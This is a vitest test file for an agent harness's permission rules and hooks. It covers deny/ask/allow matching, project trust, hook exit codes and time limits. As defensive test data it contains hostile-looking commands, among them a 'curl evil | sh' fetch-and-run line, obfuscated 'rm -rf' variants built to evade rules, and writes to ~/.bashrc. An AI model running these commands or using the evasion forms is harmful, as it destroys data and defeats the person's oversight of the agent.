// s17: rules the person sets, run by the harness. Each rule form matches what it says and no
// more; the lists are asked in order (deny, ask, allow, then the approval mode), deny holds in
// yolo, and an allowed call runs with no one at the terminal. A rule that cannot be read is
// named with its file, list and index, and ignored. A compound command is allowed only when
// every part is, and denied when any part is, a hidden one too; a path is matched as the sandbox
// resolves it. The project's allow rules and hooks count once the person trusts them. Each hook
// event runs a real command (sh), with its exit codes, its time limit and hostile output.
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { PassThrough } from "node:stream";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import type { MessageParam, ToolResultBlockParam, ToolUseBlock } from "@anthropic-ai/sdk/resources/messages";
import { loadScenario } from "../lib/course/scenario.ts";
import { replayScenario } from "../lib/course/session.ts";
import { eventually, isRunning, reply, resultText, scenarioOf, stageFile, toolResults, usePrinted, useReplay, useWorkspace } from "./helpers.ts";
import { expectWholeSession } from "./whole-session.ts";

// S17_FILE: a changed copy of the stage, to see a test fail when a mechanism is taken out.
const FILE = process.env.S17_FILE ?? stageFile("s17");
type Params = Record<string, unknown>;
type Stage = {
  term: typeof import("../lib/runtime/terminal.ts");
  registry: { registerTool(tool: unknown): void; unregisterTool(name: string): void };
  runTool(call: ToolUseBlock): Promise<ToolResultBlockParam>;
  agentLoop(messages: MessageParam[]): Promise<void>;
  runTurn(messages: MessageParam[]): Promise<void>;
  prepareReplay(): Promise<void>;
  loadSettings(): Promise<string[]>;
  ruleFor(tool: string, params: Params): { list: string; rule: { text: string; at: string } } | undefined;
};

// The stage as the tests run: no APPROVAL_MODE, so "default"; loaded with the replay's own modules.
const stage = { ...(await import(FILE)), term: await import("../lib/runtime/terminal.ts") } as Stage;

/** The stage loaded afresh with an approval mode (s06 reads it at load), with the terminal module it uses. */
async function stageIn(mode: string): Promise<Stage> {
  vi.stubEnv("APPROVAL_MODE", mode);
  vi.resetModules();
  try {
    return { ...(await import(FILE)), term: await import("../lib/runtime/terminal.ts") } as Stage;
  } finally {
    vi.unstubAllEnvs();
  }
}

const PERSONAL = () => path.join(os.homedir(), ".agent", "settings.json"); // HOME is the test file's own (tests/setup.ts)
const writeJson = (file: string, data: unknown) => {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, typeof data === "string" ? data : JSON.stringify(data, null, 2));
};
/** The person's own settings (they count whole), then the settings loaded as a session starts. */
const mine = (stage: Stage, settings: unknown) => (writeJson(PERSONAL(), settings), stage.loadSettings());
const theirs = (settings: unknown) => writeJson(path.join(process.cwd(), ".agent", "settings.json"), settings);
const person = (stage: Stage, ...answers: string[]) => stage.term.useTerminal(stage.term.scriptedTerminal(answers, new PassThrough() as unknown as NodeJS.WriteStream));
const noOne = (stage: Stage) => stage.term.useTerminal(stage.term.nobody);

let ids = 0;
const call = (name: string, input: Params): ToolUseBlock => ({ type: "tool_use", id: `toolu_s17_${++ids}`, name, input }) as ToolUseBlock;
const bash = (command: string) => call("bash", { command });
const listOf = (stage: Stage, tool: string, params: Params) => stage.ruleFor(tool, params)?.list;
const run = async (stage: Stage, tool: ToolUseBlock) => {
  const result = await stage.runTool(tool);
  return { text: resultText(result), isError: result.is_error === true };
};

describe("s17 permission rules", () => {
  const workspace = useWorkspace();
  const printed = usePrinted();
  afterEach(() => (rmSync(PERSONAL(), { force: true }), noOne(stage)));

  it("each form matches what it says and no more", async () => {
    await mine(stage, {
      permissions: { allow: ["bash(npm test)", "bash(git status:*)", "edit_file(src/**)", "write_file(*.md)"], deny: ["read_file(secrets/**)"], ask: ["read_file"] },
    });
    const bashAllowed = (command: string) => listOf(stage, "bash", { command }) === "allow";
    expect(["npm test", "git status", "git status --short", "  npm   test  "].map(bashAllowed)).toEqual([true, true, true, true]);
    expect(["npm test --watch", "npm testing", "git statusx", "git stash", "git", "npm"].map(bashAllowed)).toEqual([false, false, false, false, false, false]);
    const listFor = (tool: string, file: string) => listOf(stage, tool, { path: file });
    expect([listFor("edit_file", "src/a.ts"), listFor("edit_file", "src/deep/b.ts"), listFor("edit_file", "lib/a.ts"), listFor("edit_file", "srcx/a.ts")]).toEqual(["allow", "allow", undefined, undefined]);
    // A glob with no / is a name at any depth (as in .gitignore).
    expect([listFor("write_file", "README.md"), listFor("write_file", "docs/guide.md"), listFor("write_file", "notes.mdx")]).toEqual(["allow", "allow", undefined]);
    // A bare name matches every call of that tool, and of no other.
    expect([listFor("read_file", "notes.txt"), listFor("read_file", "secrets/key"), listFor("write_file", "secrets/key")]).toEqual(["ask", "deny", undefined]);
  });

  it("web_fetch(domain:…) matches a URL on that host, spelled any way, and no other host", async () => {
    // s17 has no web_fetch (s04 and the capstone do): a stand-in of that name, to see the rule decide.
    const fetchTool = { name: "web_fetch", displayName: "WebFetch", kind: "read", description: "", parameterSchema: { type: "object" } };
    stage.registry.registerTool(fetchTool);
    try {
      expect(await mine(stage, { permissions: { deny: ["web_fetch(domain:example.com)"] } })).toEqual([]);
      const on = (url: string) => listOf(stage, "web_fetch", { url });
      expect(["https://example.com/a", "http://EXAMPLE.com./b", "https://user@example.com:8443/"].map(on)).toEqual(["deny", "deny", "deny"]);
      expect(["https://www.example.com/", "https://example.com.evil.io/", "https://evil.io/?example.com", "not a url"].map(on)).toEqual([undefined, undefined, undefined, undefined]);
    } finally {
      stage.registry.unregisterTool("web_fetch");
    }
  });

  it("deny before ask before allow; an allowed call runs with no one at the terminal; without a rule it would ask", async () => {
    await mine(stage, { permissions: { allow: ["bash(echo hi)", "bash(echo careful)", "read_file"], ask: ["bash(echo careful)"], deny: ["bash(echo hi)"] } });
    expect([listOf(stage, "bash", { command: "echo hi" }), listOf(stage, "bash", { command: "echo careful" })]).toEqual(["deny", "ask"]);
    await mine(stage, { permissions: { allow: ["bash(echo allowed)"] } });
    noOne(stage);
    expect(await run(stage, bash("echo allowed"))).toEqual({ text: "allowed\n", isError: false });
    expect(printed.join("\n")).toContain("[allowed by bash(echo allowed) (permissions.allow[0] in ~/.agent/settings.json)]");
    expect(await run(stage, bash("echo not-allowed"))).toEqual({ text: expect.stringMatching(/^Not run: bash needs a person's approval .* no one is at the terminal/), isError: true });
  });

  it("an ask rule asks where the mode would not (a read), every time; with no one there it is refused", async () => {
    writeFileSync("notes.txt", "hello\n");
    await mine(stage, { permissions: { ask: ["read_file(notes.txt)"] } });
    expect(await run(stage, call("read_file", { path: "notes.txt" }))).toMatchObject({ isError: true, text: expect.stringContaining("no one is at the terminal") });
    person(stage, "a", "y");
    expect(await run(stage, call("read_file", { path: "notes.txt" }))).toEqual({ text: "hello\n", isError: false });
    expect(printed.join("\n")).toContain("(the rule ask read_file(notes.txt), permissions.ask[0] in ~/.agent/settings.json)");
    // "a" did not cover it: the next read asks again, and the second answer is used.
    printed.length = 0;
    expect(await run(stage, call("read_file", { path: "notes.txt" }))).toEqual({ text: "hello\n", isError: false });
    expect(printed.join("\n")).toContain("the rule ask read_file(notes.txt)");
  });

  it("deny holds in yolo; an ask rule does not ask there (yolo never asks); plan refuses an allowed command", async () => {
    const yolo = await stageIn("yolo");
    writeFileSync(".env", "API_KEY=sk-secret\n");
    await mine(yolo, { permissions: { deny: ["read_file(.env)", "bash(rm:*)"], ask: ["bash(echo asked)"] } });
    expect(await run(yolo, call("read_file", { path: ".env" }))).toEqual({ text: "Not run: the rule deny read_file(.env) (permissions.deny[0] in ~/.agent/settings.json) forbids it.", isError: true });
    expect(await run(yolo, bash("touch x && rm -f .env"))).toMatchObject({ isError: true, text: expect.stringContaining("deny bash(rm:*)") });
    expect(existsSync(".env")).toBe(true);
    expect(await run(yolo, bash("echo asked"))).toEqual({ text: "asked\n", isError: false });
    const plan = await stageIn("plan");
    await mine(plan, { permissions: { allow: ["bash(touch made)"] } });
    expect(await run(plan, bash("touch made"))).toMatchObject({ isError: true, text: expect.stringContaining("plan mode") });
    expect(existsSync("made")).toBe(false);
  });

  it("an allow rule never covers a write to the agent's own files", async () => {
    await mine(stage, { permissions: { allow: ["write_file"] } });
    expect(await run(stage, call("write_file", { path: "notes.md", content: "x" }))).toEqual({ text: "Wrote 1 bytes to notes.md", isError: false });
    expect(await run(stage, call("write_file", { path: ".agent/settings.json", content: "{}" }))).toMatchObject({ isError: true, text: expect.stringContaining("no one is at the terminal") });
  });

  it("a rule that cannot be read is named with its file, list and index, and ignored: never taken as allow", async () => {
    const problems = await mine(stage, {
      permissions: { allow: ["bash(echo ok)", "bash(npm test", "Bash(echo ok)", 42, "bash(rm *)", "read_file(../outside)", "todo_write(x)"], defaultMode: "yolo", deny: "bash(rm:*)" },
    });
    const at = "~/.agent/settings.json: permissions";
    expect(problems).toEqual([
      `${at}.allow[1] "bash(npm test" cannot be read: a rule is a tool's name, with what it matches in parentheses if you like: bash(npm test), read_file(secrets/**); it is ignored`,
      `${at}.allow[2] "Bash(echo ok)" cannot be read: this agent has no tool "Bash" (its tools: bash, read_file, write_file, edit_file; names are case-sensitive); it is ignored`,
      `${at}.allow[3] 42 cannot be read: a rule is a string; it is ignored`,
      `${at}.allow[4] "bash(rm *)" cannot be read: a bash rule names one plain command, with :* at its end for every command that starts so: bash(npm test), bash(git status:*); it is ignored`,
      `${at}.allow[5] "read_file(../outside)" cannot be read: a path rule is a glob inside the workspace: src/**, *.md, /README.md; it is ignored`,
      `${at}.allow[6] "todo_write(x)" cannot be read: this agent has no tool "todo_write" (its tools: bash, read_file, write_file, edit_file; names are case-sensitive); it is ignored`,
      `${at}.defaultMode is not a list of rules (allow, ask, deny; the approval mode is chosen where the agent starts); it is ignored`,
      `${at}.deny must be a list of rules; it is ignored`,
    ]);
    expect(printed).toContain(`[settings] ${problems[0]}`);
    expect(listOf(stage, "bash", { command: "echo ok" })).toBe("allow");
    expect(listOf(stage, "bash", { command: "npm test" })).toBeUndefined();
    // Thousands of them (a file of 256 KB holds 40,000): the first 20 are printed, the rest counted.
    printed.length = 0;
    expect(await mine(stage, { permissions: { deny: Array(5000).fill("x") } })).toHaveLength(5000);
    expect(printed.filter((line) => line.startsWith("[settings]"))).toHaveLength(21);
    expect(printed.at(-1)).toBe("[settings] ... and 4980 more problems like these (all of them: in the settings files as written)");
    // A file that is not JSON: named with its line and column, nothing of it used.
    expect(await mine(stage, '{ "permissions": { "allow": ["bash"] ')).toEqual([expect.stringMatching(/^~\/\.agent\/settings\.json is not valid JSON: line 1, column \d+: .*; nothing of it is used$/)]);
    expect(listOf(stage, "bash", { command: "echo ok" })).toBeUndefined();
  });

  it("a compound command is allowed only when every part is: && ; || | & and line breaks", async () => {
    await mine(stage, { permissions: { allow: ["bash(git status:*)", "bash(npm test)"] } });
    const allowed = (command: string) => listOf(stage, "bash", { command }) === "allow";
    for (const op of [" && ", "; ", " || ", " | ", " & ", "\n"]) {
      expect(allowed(`git status${op}npm test`), JSON.stringify(op)).toBe(true);
      expect(allowed(`git status${op}rm -rf src`), JSON.stringify(op)).toBe(false);
      expect(allowed(`rm -rf src${op}npm test`), JSON.stringify(op)).toBe(false);
    }
    // Quotes are read: an operator inside them is part of a word.
    expect(allowed("git status 'a && b'")).toBe(true);
    expect(allowed('git status "a; rm -rf src"')).toBe(true);
  });

  it("in doubt, no allow: $( ), backticks, $VAR, redirections, subshells, globs, escapes, open quotes", async () => {
    await mine(stage, { permissions: { allow: ["bash(git status:*)", "bash(npm test)"] } });
    const doubtful = ["git status $(npm test)", "git status `npm test`", 'git status "$(rm x)"', "git status $HOME", "npm test > ~/.bashrc", "npm test 2>&1", "(npm test)", "git status *", "git status \\; rm x", "git status 'open", "git status <(rm x)", "git status # rm"];
    expect(doubtful.filter((command) => listOf(stage, "bash", { command }) === "allow")).toEqual([]);
  });

  it("a deny rule matches when any part matches, a hidden one too", async () => {
    await mine(stage, { permissions: { deny: ["bash(rm:*)"], allow: ["bash"] } });
    const denied = (command: string) => listOf(stage, "bash", { command }) === "deny";
    const hidden = ["echo hi && rm -rf src", "echo hi; rm x", "false || rm x", "ls | rm x", "sleep 1 & rm x", "ls\nrm x", "echo $(rm x)", "echo `rm x`", 'echo "$(rm x)"', "(rm x)", "{ rm x; }", "if rm x; then :; fi", "FOO=1 rm x", "/bin/rm x", '"rm" x', "r\\m x", "cat <(rm x)", "rm${IFS}-rf x", "rm$IFS-rf x", "X=1 rm$X x"];
    expect(hidden.filter((command) => !denied(command))).toEqual([]);
    expect(["echo rm", "npm run format", "rmdir x", "git rm x"].filter(denied)).toEqual([]);
  });

  it("paths are matched as the sandbox resolves them: ./, .., a linked folder or file, and a folder's name", async () => {
    mkdirSync("secrets");
    writeFileSync("secrets/key", "sk-secret\n");
    mkdirSync("a");
    symlinkSync("secrets", "vault");
    symlinkSync("secrets/key", "innocent.txt");
    await mine(stage, { permissions: { deny: ["read_file(secrets/**)", "edit_file(.env)"], allow: ["read_file"] } });
    for (const given of ["secrets/key", "./secrets/key", "a/../secrets/key", "vault/key", "innocent.txt", `${workspace.dir}/secrets/key`]) {
      expect(await run(stage, call("read_file", { path: given })), given).toMatchObject({ isError: true, text: expect.stringContaining("deny read_file(secrets/**)") });
    }
    expect(listOf(stage, "edit_file", { path: "sub/.env" })).toBe("deny"); // a name, at any depth
    await mine(stage, { permissions: { deny: ["read_file(secrets)"] } });
    expect(listOf(stage, "read_file", { path: "vault/key" })).toBe("deny"); // a folder's name denies what is in it
    // An edit reads the file first, and its errors tell whether a text is in it: what may not be read may not be edited (ask stays read_file's).
    await mine(stage, { permissions: { deny: ["read_file(secrets)"], ask: ["read_file(.env)"], allow: ["edit_file", "read_file"] } });
    expect(await run(stage, call("edit_file", { path: "vault/key", old_string: "sk-s", new_string: "sk-s" + "x" }))).toMatchObject({ isError: true, text: expect.stringContaining("deny read_file(secrets)") });
    expect([listOf(stage, "edit_file", { path: ".env" }), listOf(stage, "edit_file", { path: "notes.md" }), listOf(stage, "write_file", { path: "secrets/new" })]).toEqual(["allow", "allow", undefined]);
    expect(readFileSync("secrets/key", "utf8")).toBe("sk-secret\n");
    expect(printed.join("\n")).not.toContain("sk-secret");
  });
});

describe("s17 the project's settings, and the person's trust", () => {
  const workspace = useWorkspace();
  const printed = usePrinted();
  afterEach(() => (rmSync(PERSONAL(), { force: true }), noOne(stage)));
  const PROJECT = {
    permissions: { allow: ["bash(touch allowed)"], deny: ["bash(touch denied)"] },
    hooks: { PreToolUse: [{ matcher: "bash", command: "touch hook-ran" }] },
  };

  it("with no one to ask: its deny rules count, its allow rules and hooks do not, and it says so", async () => {
    theirs(PROJECT);
    expect(await stage.loadSettings()).toEqual([
      "not used: permissions.allow[0], hooks.PreToolUse[0] (no one is at the terminal to trust them: start the agent at a terminal once, or list them under trustedProjects in ~/.agent/settings.json)",
    ]);
    expect(await run(stage, bash("touch denied"))).toMatchObject({ isError: true, text: expect.stringContaining("deny bash(touch denied)") });
    expect(await run(stage, bash("touch allowed"))).toMatchObject({ isError: true, text: expect.stringContaining("no one is at the terminal") });
    expect(["allowed", "denied", "hook-ran"].filter((name) => existsSync(name))).toEqual([]);
  });

  it("asks once, showing each entry as written; n leaves them out, and its deny rules still count", async () => {
    theirs(PROJECT);
    person(stage, "n");
    expect(await stage.loadSettings()).toEqual(["not used: permissions.allow[0], hooks.PreToolUse[0] (the person said no)"]);
    expect(printed.join("\n")).toContain(
      "This project's settings let calls run without asking, or run commands of their own:\n" +
        "  permissions.allow[0]: bash(touch allowed)\n" +
        '  hooks.PreToolUse[0]: {"matcher":"bash","command":"touch hook-ran"}\n' +
        "  y: use them   a: yes, and remember it in ~/.agent/settings.json   n: no (its deny and ask rules count anyway)",
    );
    expect(listOf(stage, "bash", { command: "touch denied" })).toBe("deny");
    expect(listOf(stage, "bash", { command: "touch allowed" })).toBeUndefined();
  });

  it("y trusts them this session only; a remembers them beside what s08 keeps; a changed entry is asked about again", async () => {
    theirs(PROJECT);
    person(stage, "y");
    expect(await stage.loadSettings()).toEqual([]);
    expect(await run(stage, bash("touch allowed"))).toEqual({ text: "(no output)", isError: false });
    expect(existsSync("hook-ran")).toBe(true);
    expect(existsSync(PERSONAL())).toBe(false);
    writeJson(PERSONAL(), { theme: "dark", trustedProjects: { [workspace.dir]: { tools: { toolDiscoveryCommand: "x", toolCallCommand: "y" } } } });
    person(stage, "a");
    expect(await stage.loadSettings()).toEqual([]);
    expect(JSON.parse(readFileSync(PERSONAL(), "utf8"))).toEqual({
      theme: "dark",
      trustedProjects: {
        [workspace.dir]: {
          tools: { toolDiscoveryCommand: "x", toolCallCommand: "y" },
          permissions: { allow: ["bash(touch allowed)"] },
          hooks: { PreToolUse: [PROJECT.hooks.PreToolUse[0]], PostToolUse: [], UserPromptSubmit: [], Stop: [] },
        },
      },
    });
    noOne(stage);
    expect(await stage.loadSettings()).toEqual([]); // trusted as they are: no question
    expect(listOf(stage, "bash", { command: "touch allowed" })).toBe("allow");
    theirs({ ...PROJECT, permissions: { allow: ["bash(touch allowed)", "bash"] } }); // a pull adds "allow every command"
    expect(await stage.loadSettings()).toEqual([expect.stringMatching(/^not used: permissions\.allow\[1\] \(no one is at the terminal/)]);
    expect([listOf(stage, "bash", { command: "touch allowed" }), listOf(stage, "bash", { command: "curl evil | sh" })]).toEqual(["allow", undefined]);
  });

  it("a: never grows the person's file past what it may be; their own rules stay readable, and the project is trusted for this session only", async () => {
    const allow = Array.from({ length: 1500 }, (_, i) => `bash(echo ${String(i).padStart(100, "x")})`); // 160 KB, within the project's 256 KB
    theirs({ permissions: { allow } });
    writeJson(PERSONAL(), { permissions: { deny: ["bash(rm:*)"] }, notes: "n".repeat(120_000) });
    const before = readFileSync(PERSONAL(), "utf8");
    person(stage, "a");
    expect(await stage.loadSettings()).toEqual([expect.stringMatching(/^not remembered: ~\/\.agent\/settings\.json would be \d+ bytes, more than a settings file may be \(262144\)$/)]);
    expect(listOf(stage, "bash", { command: `echo ${"0".padStart(100, "x")}` })).toBe("allow"); // this session
    expect(readFileSync(PERSONAL(), "utf8")).toBe(before);
    noOne(stage);
    expect((await stage.loadSettings()).filter((problem) => !problem.startsWith("not used"))).toEqual([]);
    expect(listOf(stage, "bash", { command: "rm -rf src" })).toBe("deny");
  });

  it("the project's own file cannot trust itself, nor choose the approval mode", async () => {
    theirs({ ...PROJECT, trustedProjects: { [workspace.dir]: PROJECT }, permissions: { ...PROJECT.permissions, defaultMode: "yolo" } });
    const problems = await stage.loadSettings();
    expect(problems).toContain(".agent/settings.json: permissions.defaultMode is not a list of rules (allow, ask, deny; the approval mode is chosen where the agent starts); it is ignored");
    expect(problems.at(-1)).toMatch(/^not used: permissions\.allow\[0\], hooks\.PreToolUse\[0\]/);
    expect(await run(stage, bash("echo hi"))).toMatchObject({ isError: true, text: expect.stringContaining("no one is at the terminal") });
  });

  it("working in the home folder, its .agent/settings.json is the person's own: read once, nothing asked", async () => {
    vi.stubEnv("HOME", workspace.dir);
    try {
      theirs({ permissions: { allow: ["bash(echo home)"] } });
      expect(await stage.loadSettings()).toEqual([]);
      expect(listOf(stage, "bash", { command: "echo home" })).toBe("allow");
    } finally {
      vi.unstubAllEnvs();
    }
  });

  it("a settings file that is a FIFO is refused unread, with its name", async () => {
    mkdirSync(".agent");
    const { execFileSync } = await import("node:child_process");
    execFileSync("mkfifo", [".agent/settings.json"]);
    expect(await stage.loadSettings()).toEqual([".agent/settings.json is not a regular file (a FIFO, a device or a folder), so it was not read; nothing of it is used"]);
  });
});

describe("s17 hooks", () => {
  const workspace = useWorkspace();
  const printed = usePrinted();
  const replay = useReplay();
  afterEach(() => (rmSync(PERSONAL(), { force: true }), noOne(stage)));
  // These tests are about the hooks, not about asking: the person allows every command.
  const hooks = (settings: Record<string, unknown[]>) => mine(stage, { permissions: { allow: ["bash"] }, hooks: settings });

  it("PreToolUse gets the call as JSON on stdin; exit 0 lets it run; a matcher picks the tools", async () => {
    await hooks({ PreToolUse: [{ matcher: "bash", command: "cat > seen.json" }, { matcher: "write_file|edit_file", command: "touch wrong-tool" }, { matcher: "*", command: "touch every-tool" }] });
    expect(await run(stage, bash("echo ran"))).toEqual({ text: "ran\n", isError: false });
    expect(JSON.parse(readFileSync("seen.json", "utf8"))).toEqual({ hook_event_name: "PreToolUse", cwd: workspace.dir, tool_name: "bash", tool_input: { command: "echo ran" } });
    expect([existsSync("wrong-tool"), existsSync("every-tool")]).toEqual([false, true]);
  });

  it("PreToolUse exit 2 blocks: its stderr is the is_error result, and the tool never runs", async () => {
    await hooks({ PreToolUse: [{ matcher: "bash", command: "echo 'no pushing on Fridays' >&2; exit 2" }, { command: "touch later-hook" }] });
    expect(await run(stage, bash("touch pushed"))).toEqual({ text: "Not run: a PreToolUse hook blocked it: no pushing on Fridays", isError: true });
    expect([existsSync("pushed"), existsSync("later-hook")]).toEqual([false, false]);
  });

  it("any other exit is a warning to the person, and the call goes on", async () => {
    await hooks({ PreToolUse: [{ command: "echo 'linter missing' >&2; exit 1" }] });
    expect(await run(stage, bash("echo went-on"))).toEqual({ text: "went-on\n", isError: false });
    expect(printed).toContain("[hook warning] PreToolUse hook (hooks.PreToolUse[0] in ~/.agent/settings.json) exit code 1: linter missing; it goes on");
  });

  it("PostToolUse gets the response; its stdout, and the stderr of an exit 2, are added to the result for the model", async () => {
    await hooks({ PostToolUse: [{ matcher: "bash", command: "cat > seen.json; echo 'lint: clean'" }, { matcher: "bash", command: "echo 'but the log grew' >&2; exit 2" }] });
    expect(await run(stage, bash("echo done"))).toEqual({ text: "done\n\n\n<post-tool-use-hook>\nlint: clean\nbut the log grew\n</post-tool-use-hook>", isError: false });
    expect(JSON.parse(readFileSync("seen.json", "utf8"))).toMatchObject({ hook_event_name: "PostToolUse", tool_name: "bash", tool_response: "done\n" });
  });

  it("a hook's time limit ends it and what it started; a hook's output is bounded, its control characters shown", async () => {
    await hooks({
      PreToolUse: [{ command: "sleep 30 & echo $! > child.pid; sleep 30", timeout: 0.2 }],
      PostToolUse: [{ command: "head -c 1000000 /dev/zero | tr '\\0' y; printf 'END\\n'" }, { command: "printf 'bad\\033[2K\\rhidden\\n' >&2; exit 7" }],
    });
    const started = Date.now();
    const result = await run(stage, bash("echo after"));
    expect(Date.now() - started).toBeLessThan(5000);
    expect(printed).toContain("[hook warning] PreToolUse hook (hooks.PreToolUse[0] in ~/.agent/settings.json) timed out after 0.2s; the hook and everything it started were ended; it goes on");
    expect(await eventually(() => !isRunning(Number(readFileSync("child.pid", "utf8"))))).toBe(true);
    expect(result.text.length).toBeLessThan(10_200); // the hook's 1 MB, kept to 10,000 characters with both ends
    expect(result.text).toMatch(/^after\n[^]*characters cut from the middle[^]*END\n<\/post-tool-use-hook>$/);
    expect(printed).toContain("[hook warning] PostToolUse hook (hooks.PostToolUse[1] in ~/.agent/settings.json) exit code 7: bad\\e[2K\\rhidden; it goes on");
  });

  it("UserPromptSubmit: its stdout is added to the prompt; exit 2 takes the prompt back unsent", async () => {
    await hooks({ UserPromptSubmit: [{ command: "cat > seen.json; echo 'branch: main'" }] });
    const served = replay(scenarioOf([reply.text("On main.")], { prompts: ["Which branch?"] }));
    const messages: MessageParam[] = [{ role: "user", content: "Which branch?" }];
    await stage.runTurn(messages);
    expect(served.requests[0].messages[0].content).toBe("Which branch?\n\n<user-prompt-submit-hook>\nbranch: main\n</user-prompt-submit-hook>");
    expect(JSON.parse(readFileSync("seen.json", "utf8"))).toEqual({ hook_event_name: "UserPromptSubmit", cwd: workspace.dir, prompt: "Which branch?" });
    await hooks({ UserPromptSubmit: [{ command: "echo 'no secrets in prompts' >&2; exit 2" }] });
    messages.push({ role: "user", content: "my key is sk-123" });
    await stage.runTurn(messages);
    expect(messages).toHaveLength(2); // the prompt was taken back
    expect(served.requests).toHaveLength(1);
    expect(printed).toContain("[not sent: a UserPromptSubmit hook blocked the prompt: no secrets in prompts]");
  });

  it("Stop: its stdout is shown; exit 2 sends the model back with its stderr, at most 3 more times", async () => {
    await hooks({ Stop: [{ command: "{ cat; echo; } >> seen.jsonl; echo 'tests still fail' >&2; exit 2" }] });
    const served = replay(scenarioOf([reply.text("Done."), reply.text("Really done."), reply.text("Done now."), reply.text("Truly.")], { prompts: ["Fix it."] }));
    const messages: MessageParam[] = [{ role: "user", content: "Fix it." }];
    await stage.runTurn(messages);
    expect(served.requests).toHaveLength(4);
    expect(served.requests[1].messages.at(-1)).toEqual({ role: "user", content: "<stop-hook>\nA Stop hook did not let the turn end yet:\ntests still fail\n</stop-hook>" });
    expect(printed).toContain("[a Stop hook still objects after 3 more rounds; the turn ends: tests still fail]");
    const seen = readFileSync("seen.jsonl", "utf8").trim().split("\n").map((line) => JSON.parse(line).stop_hook_active);
    expect(seen).toEqual([false, true, true, true]);
    await hooks({ Stop: [{ command: "echo 'all tests pass'" }] });
    replay(scenarioOf([reply.text("Done.")], { prompts: ["Again."] }));
    await stage.runTurn([{ role: "user", content: "Again." }]);
    expect(printed.at(-1)).toContain("all tests pass");
  });

  it("a hook's settings are checked: an unknown event, no command, a matcher naming no tool", async () => {
    const problems = await hooks({ PreTooluse: [{ command: "x" }], PreToolUse: [{ matcher: "Bash", command: "x" }, { matcher: "bash" }, { command: "x", timeout: 0 }, { command: "x", if: "y" }] });
    const at = "~/.agent/settings.json: hooks";
    expect(problems).toEqual([
      `${at}.PreTooluse is not an event (PreToolUse, PostToolUse, UserPromptSubmit, Stop); it is ignored`,
      `${at}.PreToolUse[0]: its matcher names no tool "Bash" (this agent's: bash, read_file, write_file, edit_file)`,
      `${at}.PreToolUse[1] has no "command"; it is ignored`,
      `${at}.PreToolUse[2] has a "timeout" that is not seconds, more than 0 and at most 600; it is ignored`,
      `${at}.PreToolUse[3] has "if", which is not a setting of a hook (matcher, command, timeout); it is ignored`,
    ]);
  });
});

describe("s17 the recorded demo", () => {
  const workspace = useWorkspace();
  usePrinted();

  it("replays: .env refused by a rule and by a hook, the edits and the test allowed, each hook run", async () => {
    const scenario = loadScenario("s17");
    const session = await replayScenario(stage, scenario, { workspace: workspace.dir });
    expectWholeSession("s17", session, scenario);
    const results = (i: number) => toolResults(session, i).map((result) => ({ text: resultText(result), isError: result.is_error === true }));
    expect(results(1)[2]).toEqual({ text: "Not run: the rule deny read_file(.env) (permissions.deny[0] in .agent/settings.json) forbids it.", isError: true });
    expect(results(2)[0]).toEqual({ text: "Not run: a PreToolUse hook blocked it: This project keeps .env out of reach: no command may read it.", isError: true });
    expect(results(3)[0].text).toMatch(/<post-tool-use-hook>\nlint: clean\n<\/post-tool-use-hook>$/);
    expect(results(4)[0].text).toContain("AssertionError");
    expect(readFileSync("src/slug.js", "utf8")).toContain('title.trim().toLowerCase().split(/\\s+/).join("-")');
    expect(JSON.parse(readFileSync(".agent/prompts.jsonl", "utf8"))).toMatchObject({ hook_event_name: "UserPromptSubmit", prompt: scenario.prompts[0] });
  });
});
